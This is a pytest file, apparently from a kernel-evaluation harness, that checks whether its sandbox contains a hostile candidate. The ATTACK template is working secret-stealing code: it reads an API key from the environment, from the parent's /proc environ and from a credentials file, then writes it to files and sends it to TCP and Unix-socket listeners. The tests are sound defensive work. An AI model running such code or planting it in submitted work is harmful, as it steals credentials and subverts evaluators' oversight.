"""An adversarial candidate against the whole harness: at import it appends the harness's API
key to a file in /tmp and in the user's home, reads it from the harness's /proc environ, and
sends it to a TCP listener on 127.0.0.1, while otherwise being a correct relu kernel. Nothing
may leak; best-effort flags the attempts, strict rejects the candidate, and an honest candidate
evaluated beside it stays correct."""

from __future__ import annotations

import socket
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from kernelwright.harness.sandbox import confine
from kernelwright.harness.session import evaluate
from kernelwright.problems import resolve_problem
from tests.candidates import harness_options, write_case
from tests.candidates.cpu_kit import CORRECT, HEADER

pytestmark = [pytest.mark.slow, pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")]

KEY = "sk-test-secret"

ATTACK = """
import os, socket

def _steal():
    found = [os.environ.get("OPENAI_API_KEY", "")]
    try:  # the harness's own environment, through /proc
        with open(f"/proc/{{os.getppid()}}/environ", "rb") as f:
            found.append(f.read().decode(errors="replace"))
    except OSError:
        pass
    try:  # a credentials file the user can read
        with open({credentials!r}) as f:
            found.append(f.read())
    except OSError:
        pass
    return "|".join(found)

_loot = _steal()
print("candidate sees:", _loot)
for _target in ({tmp_file!r}, os.path.join(os.path.expanduser("~"), "leak.txt"), {home_file!r}):
    try:
        with open(_target, "a") as f:
            f.write(_loot)
    except OSError as exc:
        print("write refused:", _target, exc)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        s.sendall(_loot.encode())
except OSError as exc:
    print("connect refused:", exc)
try:  # a pathname Unix socket (an SSH agent, a Docker daemon): outside the network namespace's reach
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(3)
        s.connect({unix_path!r})
        s.sendall(_loot.encode())
except OSError as exc:
    print("unix connect refused:", exc)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return kit.relu_forward(x)
"""


class Listener:
    """A TCP listener on 127.0.0.1 (or a Unix-domain one at `path`) that keeps whatever it is sent."""

    def __init__(self, path: Path | None = None) -> None:
        self.sock = socket.socket(socket.AF_UNIX) if path else socket.socket()
        self.sock.bind(str(path) if path else ("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = 0 if path else self.sock.getsockname()[1]
        self.received = b""
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(2)
                try:
                    while chunk := conn.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener(tmp_path: Path) -> Iterator[Listener]:
    server = Listener()
    server.unix = Listener(tmp_path / "agent.sock")  # type: ignore[attr-defined]
    yield server
    server.close()
    server.unix.close()  # type: ignore[attr-defined]


def _attack(tmp_path: Path, home: Path, listener: Listener, header: str = HEADER) -> tuple[Path, list[Path]]:
    tmp_file = Path("/tmp") / f"kw-leak-{uuid.uuid4().hex}.txt"
    credentials = home / ".config" / "credentials"
    credentials.parent.mkdir(parents=True)
    credentials.write_text(f"api_key = {KEY}\n")
    body = ATTACK.format(
        credentials=str(credentials),
        tmp_file=str(tmp_file),
        home_file=str(home / "leak.txt"),
        port=listener.port,
        unix_path=str(listener.unix.sock.getsockname()),  # type: ignore[attr-defined]
    )
    path = write_case(tmp_path / "cases", "exfiltrates_the_key", header + body)
    return path, [tmp_file, home / "leak.txt"]


def _assert_nothing_leaked(targets: list[Path], listener: Listener, out: Path) -> None:
    for target in targets:
        assert not target.exists() or KEY not in target.read_text(), target
        target.unlink(missing_ok=True)
    assert listener.connections == 0 and listener.received == b""
    unix = listener.unix  # type: ignore[attr-defined]
    assert unix.connections == 0 and unix.received == b""  # the seccomp filter refused the socket
    for evidence in out.rglob("*"):
        if evidence.is_file():
            assert KEY not in evidence.read_text(errors="replace"), evidence


@pytest.fixture
def harness_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    home = tmp_path / "user-home"
    home.mkdir()
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("HOME", str(home))
    return home


def test_best_effort_flags_the_attempts_and_leaks_nothing(
    tmp_path: Path, shared_home: Path, harness_env: Path, listener: Listener
) -> None:
    path, targets = _attack(tmp_path, harness_env, listener)
    out = tmp_path / "evidence"
    [result] = evaluate(resolve_problem("relu"), [path], harness_options(shared_home, "cpu", out_dir=out))
    _assert_nothing_leaked(targets, listener, out)
    assert result.isolation is not None and result.isolation.env == "scrubbed"
    codes = {f.code for f in result.flags}
    assert {"network_access", "write_outside_scratch"} <= codes, result.flags
    assert result.verdict.value == "correct", result.message  # best-effort: flagged, not rejected
    assert KEY not in result.model_dump_json()
    found = confine.probe()
    if found.network == "namespace" and found.filesystem == "landlock":  # this machine enforces them
        assert (result.isolation.network, result.isolation.filesystem) == ("namespace", "landlock")
        assert "[redacted]" in (out / path.stem / "build-and-run.log").read_text()  # the credentials file's key


@pytest.mark.skipif(bool(confine.probe().missing()), reason="strict needs every isolation layer")
def test_strict_rejects_the_attack_and_keeps_the_honest_candidate(
    tmp_path: Path, shared_home: Path, harness_env: Path, listener: Listener
) -> None:
    path, targets = _attack(tmp_path, harness_env, listener)
    honest = write_case(tmp_path / "cases", CORRECT.name, CORRECT.source())
    out = tmp_path / "evidence"
    opts = harness_options(shared_home, "cpu", out_dir=out, sandbox="strict")
    attack, kept = evaluate(resolve_problem("relu"), [path, honest], opts)
    _assert_nothing_leaked(targets, listener, out)
    assert attack.verdict.value == "rejected" and attack.reason is not None
    assert attack.reason.value in ("network_access", "write_outside_scratch"), attack.message
    assert "blocked by the sandbox" in attack.message
    assert kept.verdict.value == "correct" and not any(
        f.code in ("network_access", "write_outside_scratch") for f in kept.flags
    )
    assert kept.isolation is not None and kept.isolation.missing() == [] and kept.isolation.mode == "strict"


@pytest.mark.gpu
def test_the_attack_leaks_nothing_on_a_gpu(
    tmp_path: Path, shared_home: Path, harness_env: Path, listener: Listener
) -> None:
    """The same attack from a CUDA candidate (the GPU kit's relu) on a GPU host: CUDA still works
    inside the sandbox, nothing leaks, and the isolation in force is recorded in the result."""
    from tests.candidates.gpu_kit import HEADER as CUDA_HEADER

    path, targets = _attack(tmp_path, harness_env, listener, header=CUDA_HEADER)
    out = tmp_path / "evidence"
    [result] = evaluate(resolve_problem("relu"), [path], harness_options(shared_home, "cuda", out_dir=out))
    assert result.isolation is not None
    print("isolation on this GPU host:", result.isolation.model_dump_json())
    found = confine.probe()
    # A CUDA worker gets every layer this machine offers: initialising the driver costs none.
    assert (result.isolation.network, result.isolation.filesystem) == (found.network, found.filesystem)
    assert result.isolation.env == "scrubbed" and result.isolation.sockets == found.sockets
    assert result.verdict.value == "correct", result.message  # best-effort: flagged, and the kernel ran on the GPU
    flags = {f.code: f.message for f in result.flags}
    assert {"network_access", "write_outside_scratch"} <= set(flags), result.flags
    if found.filesystem == "landlock" and found.network != "none":
        _assert_nothing_leaked(targets, listener, out)
    else:  # the machine lacks a layer: the result says the attempt was NOT blocked (strict refuses to run)
        assert "NOT blocked" in " ".join(flags.values())
        for target in targets:
            target.unlink(missing_ok=True)
